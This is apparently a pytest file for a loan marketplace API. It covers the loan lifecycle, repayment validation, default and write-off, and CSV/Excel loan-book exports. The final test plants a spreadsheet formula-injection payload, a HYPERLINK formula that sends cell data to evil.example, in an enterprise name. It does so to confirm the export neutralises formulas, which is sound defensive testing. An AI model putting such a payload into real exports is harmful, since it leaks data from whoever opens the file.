"""Loans through the API: the whole story from need to repaid loan, overdue days from the
clock, default and write-off, the loan book in CSV and Excel, and bad input refused with
nothing changed."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal
from typing import Any

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from tests.accounts import ENTERPRISE_CODE
from tests.market.conftest import Auth, apply, need_payload, publish
from xinyidai.core import clock
from xinyidai.market.models import Loan, Repayment
from xinyidai.registry import service as registry_service
from xinyidai.registry.schemas import EnterpriseIn


def _approved(client: TestClient, auth: Auth, **terms: Any) -> dict[str, Any]:
    product = publish(client, auth("bank"), repayment_methods=["equal_principal"])
    app = apply(
        client, auth("enterprise"), product["id"], repayment_method="equal_principal", **terms
    )
    decided = client.post(
        f"/api/v1/applications/{app['id']}/decision",
        json={"outcome": "approve", "amount": "120000.00", "rate": "4.0000", "term_months": 6},
        headers=auth("bank"),
    )
    assert decided.status_code == 200, decided.text
    return dict(decided.json())


def _disburse(client: TestClient, auth: Auth, app_id: str, **body: Any) -> dict[str, Any]:
    response = client.post(
        f"/api/v1/applications/{app_id}/disburse", json=body or None, headers=auth("bank")
    )
    assert response.status_code == 201, response.text
    return dict(response.json())


def _repay(client: TestClient, auth: Auth, loan_id: str, amount: str) -> Any:
    return client.post(
        f"/api/v1/loans/{loan_id}/repayments", json={"amount": amount}, headers=auth("bank")
    )


def test_the_whole_story_from_need_to_repaid_loan(
    client: TestClient, auth: Auth, signed: None, session: Session
) -> None:
    product = publish(client, auth("bank"), repayment_methods=["equal_principal"])
    need = client.post(
        "/api/v1/needs",
        json=need_payload(amount="120000.00", term_months=6),
        headers=auth("enterprise"),
    ).json()
    matches = client.get(f"/api/v1/needs/{need['id']}/matches", headers=auth("enterprise")).json()[
        "items"
    ]
    assert matches[0]["product"]["id"] == product["id"]
    assert matches[0]["eligible"] is True
    app = apply(
        client,
        auth("enterprise"),
        product["id"],
        need_id=need["id"],
        amount="120000.00",
        term_months=6,
        repayment_method="equal_principal",
    )
    report = client.get(f"/api/v1/applications/{app['id']}/report", headers=auth("bank"))
    assert report.status_code == 200
    client.post(f"/api/v1/applications/{app['id']}/accept", headers=auth("bank"))
    client.post(
        f"/api/v1/applications/{app['id']}/decision",
        json={"outcome": "approve", "amount": "120000.00", "rate": "4.0000", "term_months": 6},
        headers=auth("bank"),
    )
    loan = _disburse(client, auth, app["id"], contract_number="HT-2026-0001")
    assert loan["contract_number"] == "HT-2026-0001"
    assert loan["state"] == "current"
    assert [line["principal"] for line in loan["schedule"]] == ["20000.00"] * 6
    assert loan["schedule"][0]["interest"] == "400.00"  # 120,000 × 4% / 12
    payoff = sum(
        Decimal(line["principal"]) + Decimal(line["interest"]) for line in loan["schedule"]
    )
    mine = client.get("/api/v1/loans", headers=auth("enterprise")).json()
    assert [item["id"] for item in mine["items"]] == [loan["id"]]

    first = _repay(client, auth, loan["id"], "20400.00")
    assert first.status_code == 201, first.text
    body = first.json()
    assert body["balance"] == "100000.00"
    assert body["repayments"][0]["interest"] == "400.00"
    assert body["schedule"][0]["paid_on"] is not None
    rest = payoff - Decimal("20400.00")
    done = _repay(client, auth, loan["id"], str(rest)).json()
    assert done["state"] == "repaid"
    assert done["balance"] == "0.00"
    assert [t["transition"] for t in done["transitions"]] == ["disburse", "repay"]
    after = _repay(client, auth, loan["id"], "1.00")
    assert after.status_code == 409
    assert after.json()["error"]["field"] == "state"


def test_a_repayment_larger_than_the_balance_is_refused(
    client: TestClient, auth: Auth, signed: None, session: Session
) -> None:
    app = _approved(client, auth)
    loan = _disburse(client, auth, app["id"])
    too_much = _repay(client, auth, loan["id"], "200000.00")
    assert too_much.status_code == 422
    assert too_much.json()["error"]["field"] == "amount"
    for amount in ("0", "-5", "12.345"):
        bad = _repay(client, auth, loan["id"], amount)
        assert bad.status_code == 422, amount
        assert bad.json()["error"]["field"] == "amount"
    future = client.post(
        f"/api/v1/loans/{loan['id']}/repayments",
        json={"amount": "100.00", "paid_on": (clock.today() + timedelta(days=3)).isoformat()},
        headers=auth("bank"),
    )
    assert future.status_code == 422
    assert future.json()["error"]["field"] == "paid_on"
    assert _repay_as(client, auth, "bank2", loan["id"]).status_code == 404
    assert _repay_as(client, auth, "enterprise", loan["id"]).status_code == 403
    session.expire_all()
    assert session.scalar(select(func.count()).select_from(Repayment)) == 0
    row = session.scalar(select(Loan).where(Loan.public_id == loan["id"]))
    assert row is not None
    assert row.balance == Decimal("120000.00")


def _repay_as(client: TestClient, auth: Auth, who: str, loan_id: str) -> Any:
    return client.post(
        f"/api/v1/loans/{loan_id}/repayments", json={"amount": "100.00"}, headers=auth(who)
    )


def test_disbursing_needs_an_approved_application_once(
    client: TestClient, auth: Auth, signed: None, session: Session
) -> None:
    product = publish(client, auth("bank"))
    pending = apply(client, auth("enterprise"), product["id"])
    early = client.post(f"/api/v1/applications/{pending['id']}/disburse", headers=auth("bank"))
    assert early.status_code == 409
    assert early.json()["error"]["field"] == "state"
    app = _approved(client, auth)
    _disburse(client, auth, app["id"], contract_number="HT-1")
    twice = client.post(f"/api/v1/applications/{app['id']}/disburse", headers=auth("bank"))
    assert twice.status_code == 409
    assert twice.json()["error"]["field"] == "application_id"
    assert session.scalar(select(func.count()).select_from(Loan)) == 1


def test_overdue_days_default_and_write_off(
    client: TestClient, auth: Auth, signed: None, session: Session
) -> None:
    app = _approved(client, auth)
    loan = _disburse(client, auth, app["id"])
    first_due = loan["schedule"][0]["due_on"]
    early = client.post(
        f"/api/v1/loans/{loan['id']}/default", json={"reason": "逾期"}, headers=auth("bank")
    )
    assert early.status_code == 409  # a current loan cannot default
    later = clock.now() + timedelta(days=45)
    with clock.frozen_at(later):
        seen = client.get(f"/api/v1/loans/{loan['id']}", headers=auth("bank")).json()
        expected = (clock.today() - clock.today().fromisoformat(first_due)).days
        assert seen["overdue_days"] == expected > 0
        no_reason = client.post(
            f"/api/v1/loans/{loan['id']}/default", json={}, headers=auth("bank")
        )
        assert no_reason.status_code == 422
        assert no_reason.json()["error"]["field"] == "reason"
        defaulted = client.post(
            f"/api/v1/loans/{loan['id']}/default",
            json={"reason": "逾期超过 30 天"},
            headers=auth("bank"),
        ).json()
        assert defaulted["state"] == "defaulted"
        assert [t["transition"] for t in defaulted["transitions"]] == [
            "disburse",
            "fall_overdue",
            "default",
        ]
        written = client.post(
            f"/api/v1/loans/{loan['id']}/write-off", json={"reason": "核销"}, headers=auth("bank")
        ).json()
        assert written["state"] == "written_off"


def test_the_loan_book_exports_as_csv_and_excel(
    client: TestClient, auth: Auth, signed: None
) -> None:
    app = _approved(client, auth)
    loan = _disburse(client, auth, app["id"], contract_number="HT-BOOK-1")
    as_csv = client.get("/api/v1/institution/loan-book", headers=auth("bank"))
    assert as_csv.status_code == 200
    assert as_csv.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(as_csv.text.lstrip("\ufeff"))))
    assert [(r["contract_number"], r["principal"], r["state"]) for r in rows] == [
        ("HT-BOOK-1", "120000.00", "current")
    ]
    as_xlsx = client.get("/api/v1/institution/loan-book?format=xlsx", headers=auth("bank"))
    assert as_xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    assert sheet is not None
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][0] == "contract_number"
    assert values[1][1] == loan["id"]
    assert Decimal(str(values[1][6])) == Decimal("120000.00")
    assert client.get("/api/v1/institution/loan-book", headers=auth("bank2")).text.count("\n") == 1
    assert (
        client.get("/api/v1/institution/loan-book?format=pdf", headers=auth("bank")).status_code
        == 422
    )


def test_the_loan_book_exports_formulas_as_text_and_money_as_numbers(
    client: TestClient, auth: Auth, signed: None, session: Session
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    registry_service.upsert(
        session,
        data=EnterpriseIn(credit_code=ENTERPRISE_CODE, name=hostile, region_code="450103"),
    )
    session.commit()
    app = _approved(client, auth)
    _disburse(client, auth, app["id"], contract_number="@SUM(A1)")
    as_csv = client.get("/api/v1/institution/loan-book", headers=auth("bank"))
    rows = list(csv.DictReader(io.StringIO(as_csv.text.lstrip("\ufeff"))))
    assert [(r["contract_number"], r["enterprise_name"]) for r in rows] == [
        ("'@SUM(A1)", "'" + hostile)
    ]
    assert rows[0]["principal"] == "120000.00"
    as_xlsx = client.get("/api/v1/institution/loan-book?format=xlsx", headers=auth("bank"))
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    assert sheet is not None
    cells = list(sheet.iter_rows())
    assert all(cell.data_type != "f" for row in cells for cell in row)
    assert (cells[1][0].value, cells[1][2].value) == ("@SUM(A1)", hostile)
    assert (cells[1][0].data_type, cells[1][2].data_type) == ("s", "s")
    principal = cells[1][6]
    assert (principal.data_type, principal.number_format) == ("n", "#,##0.00")
    assert Decimal(str(principal.value)) == Decimal("120000.00")
